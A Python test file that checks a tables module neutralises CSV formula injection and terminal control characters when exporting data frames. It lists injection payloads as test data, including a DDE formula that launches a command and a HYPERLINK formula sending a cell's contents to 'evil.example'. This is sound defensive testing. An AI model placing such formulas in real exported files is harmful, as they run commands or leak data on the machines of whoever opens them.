"""Frames as CSV, JSON and tables."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stability_magic.display.tables import frame_text

TEXT_COLUMNS = ("organization", "name", "label", "host")
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\rx",
    "\nx",
    "  =cmd|' /C calc'!A0",
    '"=1+1',
    "'=1+1",
    ' "\t@x',
    "\ufeff=1",
    "\uff1d1",
    "\u00a0+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
)


def frame_of(text: str | None) -> pd.DataFrame:
    """A readings frame with a text in each of its columns of text."""
    times = pd.date_range("2026-11-01", periods=2, freq="1h", tz="UTC", name="read_at")
    texts = {name: pd.Series([text, "plain"], dtype="str").array for name in TEXT_COLUMNS}
    numbers = {"credits": [-1.25, 1e308], "topped_up": [float("nan"), -0.0]}
    return pd.DataFrame({**texts, **numbers, "exact": [True, False]}, index=times)


def rows_of(frame: pd.DataFrame) -> list[dict[str, str]]:
    """What a program reads from the frame's CSV."""
    return list(csv.DictReader(io.StringIO(frame_text(frame, "csv", 80), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_in_csv_is_a_formula(formula):
    """It has an apostrophe in front, whatever the column, and is whole behind it."""
    first, second = rows_of(frame_of(formula))
    assert {first[name] for name in TEXT_COLUMNS} == {f"'{formula}"}
    assert {second[name] for name in TEXT_COLUMNS} == {"plain"}


@pytest.mark.parametrize("text", ["org-1", "a=b", "1-2", "é", "", "a, b", 'say "hi"', "two\nlines"])
def test_other_text_is_as_it_is(text):
    """Also where it has to be quoted."""
    first, _ = rows_of(frame_of(text))
    assert {first[name] for name in TEXT_COLUMNS} == {text}


@pytest.mark.parametrize("text", ["=1", "plain", "a\rb"])
def test_numbers_and_times_in_csv_are_as_they_are(text):
    """No apostrophe before a minus."""
    first, second = rows_of(frame_of(text))
    assert first["read_at"] == "2026-11-01T00:00:00+00:00"
    assert (first["credits"], second["credits"]) == ("-1.25", "1e+308")
    assert (first["topped_up"], second["topped_up"]) == ("", "-0.0")
    assert first["exact"] == "True"


@given(
    st.lists(st.floats(allow_nan=False, allow_infinity=False), min_size=1, max_size=5),
    st.datetimes(
        datetime(1970, 1, 2), datetime(2037, 1, 1), timezones=st.just(ZoneInfo("Europe/Berlin"))
    ),
)
@settings(settings.get_profile("hostile"))
def test_numbers_are_the_shortest_and_times_are_iso_8601_in_csv_and_json(credits, at):
    """A number is what Python writes for the same double, and no microseconds are no text."""
    times = pd.DatetimeIndex([at.astimezone(UTC)] * len(credits), name="read_at")
    times = times.tz_convert("Europe/Berlin")
    columns = {"credits": credits, "empty_at": times}
    for label in ("plain", "a\rb"):
        frame = pd.DataFrame(columns | {"label": label}, index=times)
        frame.iloc[0, 1] = pd.NaT
        iso_text = at.astimezone(UTC).astimezone(ZoneInfo("Europe/Berlin")).isoformat()
        rows = rows_of(frame)
        assert [each["credits"] for each in rows] == [repr(each) for each in credits]
        assert {each["read_at"] for each in rows} == {iso_text}
        assert [each["empty_at"] for each in rows] == ["", *[iso_text] * (len(rows) - 1)]
        records = json.loads(frame_text(frame, "json", 80), parse_float=str)
        assert [each["credits"] for each in records] == [repr(each) for each in credits]
        assert {each["read_at"] for each in records} == {iso_text}
        assert records[0]["empty_at"] is None


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=12))
@settings(settings.get_profile("hostile"))
def test_any_text_can_be_read_back(text):
    """Exactly, but for the apostrophe."""
    (row, _), (record, _) = (
        rows_of(frame_of(text)),
        json.loads(frame_text(frame_of(text), "json", 1)),
    )
    assert row["label"] in (text, f"'{text}")
    assert row["label"].lstrip(" \"'")[:1] not in ("=", "+", "-", "@") or row["label"][0] == "'"
    assert record["label"] == text


def test_a_column_without_text_stays_empty():
    """Nothing is not a text."""
    assert {rows_of(frame_of(None))[0][name] for name in TEXT_COLUMNS} == {""}


def test_a_cell_of_a_table_is_one_line_that_controls_nothing():
    """The columns stay where they are."""
    table = frame_text(frame_of("a\nb\x1b[31m\u202e\x9b"), "table", 200)
    assert len(table.splitlines()) == 3
    assert "a\ufffdb\ufffd[31m\ufffd\ufffd" in table


def usage_rows(**spent: list[float]) -> pd.DataFrame:
    """A usage frame of an hour for each figure."""
    hours = pd.date_range(
        "2026-11-01", periods=len(next(iter(spent.values()))), freq="1h", tz="UTC"
    )
    parts = [
        pd.DataFrame(
            {"organization": name, "name": name.title(), "spent": each, "topped_up": 0.0}
            | {"likely_spent": each, "likely_topped_up": 0.0, "observed": 1.0},
            index=hours,
        )
        for name, each in spent.items()
    ]
    return pd.concat(parts).sort_index(kind="stable").rename_axis("period")


def test_a_terminal_names_idle_organizations_below_the_table():
    """It does not list their zeros; CSV and JSON do."""
    frame = usage_rows(one=[5.0, 4.0], idle=[0.0, 0.0])
    text = frame_text(frame, "table", 120)
    assert text.splitlines()[-1] == "(idle: Idle)"
    assert len(text.splitlines()) == 4
    assert len(json.loads(frame_text(frame, "json", 1))) == 4
    only_idle = frame_text(usage_rows(idle=[0.0, 0.0]), "table", 120)
    assert len(only_idle.splitlines()) == 3


def test_a_terminal_shows_periods_with_nothing_spent_in_one_line():
    """The last one stands by itself."""
    lines = frame_text(usage_rows(one=[5.0, *[0.0] * 20]), "table", 120).splitlines()
    assert len(lines) == 4
    assert lines[2] == "… 19 rows with nothing spent"
